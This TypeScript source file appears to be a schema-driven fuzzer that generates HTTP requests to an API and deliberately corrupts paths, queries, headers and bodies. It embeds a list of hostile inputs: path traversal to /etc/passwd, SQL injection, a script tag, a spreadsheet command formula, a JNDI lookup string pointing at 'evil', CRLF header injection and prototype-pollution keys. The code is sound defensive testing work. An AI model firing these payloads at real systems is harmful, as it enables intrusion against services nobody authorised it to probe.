// Makes a request out of a route's schema, mostly valid, and spoils a part of it: wrong types, hostile texts, sizes,
// content types, addresses. The same chance gives the same request.
import type { Random } from '../core/world/random.ts'
import type { KnownRoute } from './routes.ts'

type Schema = {
  type?: string
  const?: unknown
  enum?: readonly unknown[]
  anyOf?: readonly Schema[]
  properties?: Record<string, Schema>
  required?: readonly string[]
  items?: Schema
  pattern?: string
  minimum?: number
  maximum?: number
  patternProperties?: Record<string, Schema>
}

export type Request = { method: string; path: string; headers: Record<string, string>; body?: string }

const hostile = [
  '',
  ' ',
  '\0',
  '../../etc/passwd',
  '%2e%2e%2f',
  "x' or '1'='1",
  '"; drop table people; --',
  '<script>alert(1)</script>',
  '=cmd|calc!A1',
  '${jndi:ldap://evil}',
  '\r\nset-cookie: x=1',
  'ỷ\u202eẩ\ud83d\ude00',
  '\ud800',
  '__proto__',
  'constructor',
  'null',
  '-1',
  '9'.repeat(400),
  'x'.repeat(5_000),
  '1e309',
  '2026-02-30T25:61:00Z',
  '+84901234567',
]
const wild: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  1e308,
  2 ** 53,
  [],
  {},
  [[]],
  [null],
  { __proto__: null, constructor: {} },
  ...hostile,
]
const methods = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS']
const types = [
  'application/json',
  'text/csv',
  'text/plain',
  'application/xml',
  'multipart/form-data',
  '',
  'x/y; charset=?',
]

export class Spoiler {
  readonly #random: Random
  readonly #known: readonly string[]

  /** @param known ids that exist */
  constructor(random: Random, known: readonly string[]) {
    this.#random = random
    this.#known = known
  }

  request({ method, url, schema }: KnownRoute): Request {
    const random = this.#random
    const path = `${this.#address(url, schema.params as Schema)}${this.#query(schema.querystring as Schema)}`
    const headers: Record<string, string> = {}
    if (random.oneIn(20)) headers.cookie = `tongdai=${random.pick(hostile).replaceAll(/[^\x20-\x7e]/g, '')}`
    if (random.oneIn(20))
      headers.range = random.pick(['bytes=0-', 'bytes=-1', 'bytes=9-1', 'lines=1', 'bytes=0-1,3-4'])
    if (random.oneIn(25)) return { method: random.pick(methods), path, headers }
    if (!schema.body && !random.oneIn(10)) return { method, path, headers }
    const type = random.oneIn(12) ? random.pick(types) : isText(schema.body as Schema) ? 'text/csv' : types[0]
    if (type) headers['content-type'] = type
    return { method, path, headers, body: this.#body(schema.body as Schema) }
  }

  #address(url: string, params: Schema | undefined): string {
    return url
      .replaceAll(/:([a-zA-Z]+)/g, (_, name: string) => {
        const value = this.#spoils(6) ? this.#random.pick(hostile) : this.#value(params?.properties?.[name])
        return encoded(value) || '-'
      })
      .replaceAll('*', () => this.#random.pick(['x', '..%2f..%2fetc', '%00', 'a/b']))
  }

  #query(schema: Schema | undefined): string {
    const random = this.#random
    const names = Object.keys(schema?.properties ?? {}).filter(() => random.oneIn(3))
    const pairs = names.map(name => {
      const value = this.#spoils(4) ? random.pick(hostile) : this.#value(schema?.properties?.[name])
      return `${name}=${encoded(value)}`
    })
    if (this.#spoils(15))
      pairs.push(random.pick(['x=1', '%', 'a[b]=c', '=', '&&', '%ff=%ff', 'limit=1&limit=2']))
    return pairs.length > 0 ? `?${pairs.join('&')}` : ''
  }

  #body(schema: Schema | undefined): string {
    const random = this.#random
    if (this.#spoils(12))
      return random.pick(['{', '[', '"', '{"a":', 'nul', '\0', '{"__proto__":{}}', '[]', '1', '""'])
    if (this.#spoils(40)) return '['.repeat(20_000)
    if (this.#spoils(40)) return `${'['.repeat(30_000)}${']'.repeat(30_000)}`
    if (this.#spoils(60)) return JSON.stringify('x'.repeat(70_000))
    if (isText(schema)) return this.#table()
    return JSON.stringify(this.#value(schema)) ?? ''
  }

  #table(): string {
    const random = this.#random
    const columns = ['id', 'name', 'role', 'language', 'active', 'phone', 'queues']
    const words = [
      ...this.#known,
      'agent',
      'admin',
      'vi',
      'yes',
      '',
      'new-one',
      'sales:1',
      '"',
      'a;b',
      ...hostile,
    ]
    const line = () => columns.map(() => random.pick(words)).join(random.oneIn(10) ? ';' : ',')
    const lines = Array.from({ length: random.below(6) }, line)
    return [random.oneIn(6) ? line() : columns.join(','), ...lines].join(random.oneIn(3) ? '\r\n' : '\n')
  }

  #value(schema: Schema | undefined): unknown {
    const random = this.#random
    if (!schema || this.#spoils(14)) return random.pick(wild)
    if (schema.const !== undefined) return schema.const
    if (schema.enum) return random.pick(schema.enum)
    if (schema.anyOf) return this.#value(random.pick(schema.anyOf))
    switch (schema.type) {
      case 'object':
        return this.#object(schema)
      case 'array':
        return Array.from({ length: random.below(4) }, () => this.#value(schema.items))
      case 'integer':
      case 'number':
        return random.pick([schema.minimum ?? 0, schema.maximum ?? 9, 1, 50, 51])
      case 'boolean':
        return random.oneIn(2)
      case 'null':
        return null
      default:
        return this.#text(schema.pattern)
    }
  }

  #object(schema: Schema): Record<string, unknown> {
    const random = this.#random
    const made: Record<string, unknown> = {}
    for (const [name, property] of Object.entries(schema.properties ?? {})) {
      const needed = schema.required?.includes(name) ?? false
      if (needed ? !this.#spoils(15) : random.oneIn(2)) made[name] = this.#value(property)
    }
    for (const property of Object.values(schema.patternProperties ?? {}))
      made[random.pick(this.#known)] = this.#value(property)
    if (this.#spoils(15)) made[random.pick(['more', 'id', 'role', '$ref', 'toString'])] = random.pick(wild)
    return made
  }

  #text(pattern: string | undefined): string {
    const random = this.#random
    const words = [
      ...this.#known,
      ...['lunch', 'agent', 'sales', 'new-one', `made${random.below(500)}`, 'Some Body'],
      ...['2026-03-02', '2026-03-02T09:00:00+07:00', '20s', 'Asia/Ho_Chi_Minh', 'a'.repeat(64)],
    ]
    const fitting = pattern === undefined ? words : words.filter(word => new RegExp(pattern, 'u').test(word))
    return fitting.length > 0 ? random.pick(fitting) : random.pick(hostile)
  }

  #spoils(once: number): boolean {
    return this.#random.oneIn(once)
  }
}

/** A half of a pair of surrogates can't be encoded, and is asked for as it comes out of a broken program. */
function encoded(value: unknown): string {
  const text = typeof value === 'string' ? value : (JSON.stringify(value) ?? '')
  return encodeURIComponent(text.toWellFormed())
}

function isText(schema: Schema | undefined): boolean {
  return schema?.type === 'string'
}
